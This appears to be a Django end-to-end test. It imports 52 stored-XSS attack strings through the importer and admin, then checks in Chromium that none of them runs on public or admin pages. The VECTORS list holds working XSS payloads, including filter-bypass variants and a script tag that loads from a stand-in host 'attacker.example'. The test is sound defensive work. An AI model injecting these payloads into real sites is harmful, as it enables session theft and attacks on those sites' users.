"""Stored XSS regression: 52 attack strings entered through the importer and the admin, then
every kind of page opened in Chromium. Nothing may run: no dialog, no script-src violation
of the Content-Security-Policy, and no element in the page built from the markup (event
handler attributes, inline scripts, javascript: links, frames)."""

import importlib

import pytest
import yaml
from django.apps import apps
from django.contrib.auth.models import User
from django.core.management import call_command

from tests.accounts import PASSWORD

initial_themes = importlib.import_module("provisions.migrations.0002_initial_themes")

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]

VECTORS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">link</a>',
    "[click me](javascript:alert(1))",
    "![picture](javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">styled</div>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//attacker.example/x.js></SCRIPT>",
    '<img """><script>alert(1)</script>">',
    "{{ request.user }} {% debug %}",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>moving</marquee>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<div onmouseover="alert(1)">hover</div>',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    '\\"-alert(1)-\\"',
    "';alert(1);//",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    '<a href="&#106;avascript:alert(1)">entity</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    "<x onclick=alert(1)>custom element",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    "</script><script>alert(1)</script>",
]

# Collects script-src violations from the first moment of every page.
RECORD_VIOLATIONS = """
window.__violations = [];
document.addEventListener('securitypolicyviolation', (event) => {
  if (event.effectiveDirective.startsWith('script-src')) window.__violations.push(event.blockedURI);
});
"""

# What markup that got through would have built.
FIND_ACTIVE_MARKUP = """() => {
  const found = [];
  const urlAttributes = ['href', 'src', 'action', 'data', 'formaction', 'xlink:href', 'background'];
  for (const element of document.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      if (name.startsWith('on')) found.push(`${element.tagName} ${name}`);
      if (urlAttributes.includes(name) && /^\\s*(javascript|data):/i.test(attribute.value)) {
        found.push(`${element.tagName} ${name}=${attribute.value}`);
      }
    }
  }
  for (const element of document.querySelectorAll(
    'script:not([src]), iframe, object, embed, base, meta[http-equiv], body link[rel=stylesheet]'
  )) found.push(element.outerHTML.slice(0, 80));
  return found;
}"""


def write_data(folder):
    """One data set whose every text field carries attack strings."""
    count = len(VECTORS)
    folder.joinpath("plans").mkdir()
    threads = [
        {"slug": f"xss-{n}", "title": v, "themes": ["military"], "description": v}
        for n, v in enumerate(VECTORS)
    ]
    sources = [
        {"id": f"src-{n}", "title": v, "publisher": v, "author": v, "kind": "report",
         "url": f"https://news.example.org/{n}", "published": None, "language": "en", "note": v}
        for n, v in enumerate(VECTORS)
    ]  # fmt: skip
    everything = "\n\n".join(VECTORS)
    for index, slug in enumerate(["xss-first", "xss-second", "xss-third"]):
        version = {
            "slug": slug,
            "title": f"{VECTORS[index]} title",
            "short_name": f"{VECTORS[index + 3]} {index}",
            "drafted_by": [VECTORS[index + 6]],
            "published": f"2025-11-2{index}",
            "published_note": VECTORS[index + 9],
            "stage": "proposal",
            "status": VECTORS[index + 12],
            "based_on": ["xss-first", "xss-second"][index - 1] if index else None,
            "text_basis": "paraphrase",
            "text_basis_note": VECTORS[index + 15],
            "summary": everything,
            "notes": everything,
            "sources": ["src-0"],
        }
        provisions = [
            {
                "number": str(n + 1),
                "threads": [f"xss-{n}"],
                "themes": ["military"],
                "text": f"{v} version {index}" if index else v,
                "citations": [{"source": f"src-{n}", "note": v}],
                "positions": [{"party": VECTORS[(n + 7) % count], "position": v}],
                "rendering_notes": v,
            }
            for n, v in enumerate(VECTORS)
        ]
        plan = {"version": version, "provisions": provisions}
        folder.joinpath("plans", f"{slug}.yaml").write_text(yaml.safe_dump(plan))
    claims = [
        {"source": f"src-{n}", "provision_refs": [{"plan": "xss-first", "number": str(n + 1)}],
         "claim": v, "accuracy": "unclear", "note": v}
        for n, v in enumerate(VECTORS)
    ]  # fmt: skip
    for name, data in [("threads", threads), ("sources", sources), ("commentary", claims)]:
        folder.joinpath(f"{name}.yaml").write_text(yaml.safe_dump(data))


PUBLIC_PAGES = [
    "/",
    "/versions/xss-first/",
    "/versions/xss-third/",
    "/compare/xss-first/xss-second/",
    "/compare/?v=xss-first&v=xss-second&v=xss-third",
    "/threads/xss-0/",
    "/threads/xss-1/",
    "/themes/military/",
    "/sources/",
    "/sources/?by=publisher",
    "/sources/src-0/",
    "/provisions/?q=alert",
    "/provisions/?q=%3Cscript%3Ealert(1)%3C/script%3E",
]
ADMIN_PAGES = [
    "/admin/provisions/planversion/",
    "/admin/provisions/provision/",
    "/admin/provisions/thread/",
    "/admin/provisions/source/",
    "/admin/provisions/claim/",
    "/admin/provisions/party/",
]


def assert_nothing_ran(page, url, dialogs):
    page.goto(url)
    page.wait_for_load_state("load")

    assert dialogs == [], url
    assert page.evaluate("window.__violations") == [], url
    assert page.evaluate(FIND_ACTIVE_MARKUP) == [], url


def admin_change(page, site, path, field, value):
    """Type an attack string into one field of an admin change form and save."""
    page.goto(site + path)
    page.fill(f"#id_{field}", value)
    page.click("input[name=_save]")
    page.wait_for_selector(".messagelist .success")


def test_attack_strings_from_the_importer_and_the_admin_never_run(live_server, page, tmp_path):
    initial_themes.create_themes(apps, schema_editor=None)
    write_data(tmp_path)
    call_command("import_plans", str(tmp_path), verbosity=0)
    User.objects.create_superuser("boss", password=PASSWORD)
    site = live_server.url
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.add_init_script(RECORD_VIOLATIONS)
    # The detector finds markup that got through, unescaped.
    page.set_content(f"<p>{VECTORS[6]}{VECTORS[38]}</p>")  # neither runs unless clicked
    assert len(page.evaluate(FIND_ACTIVE_MARKUP)) == 2

    page.goto(f"{site}/admin/login/")
    page.fill("#id_username", "boss")
    page.fill("#id_password", PASSWORD)
    page.click("input[type=submit]")
    page.wait_for_selector("#site-name")
    thread_pk = apps.get_model("provisions", "Thread").objects.get(slug="xss-1").pk
    admin_change(page, site, f"/admin/provisions/thread/{thread_pk}/change/", "title", VECTORS[-1])
    source_pk = apps.get_model("provisions", "Source").objects.get(slug="src-0").pk
    admin_change(page, site, f"/admin/provisions/source/{source_pk}/change/", "title", VECTORS[2])

    for path in ADMIN_PAGES + [
        f"/admin/provisions/thread/{thread_pk}/change/",
        f"/admin/provisions/thread/{thread_pk}/history/",
        f"/admin/provisions/source/{source_pk}/change/",
    ]:
        assert_nothing_ran(page, site + path, dialogs)
    for path in PUBLIC_PAGES:
        assert_nothing_ran(page, site + path, dialogs)
    page.goto(f"{site}/threads/xss-1/")
    assert page.locator("h1").inner_text().strip() == VECTORS[-1]  # shown, as text
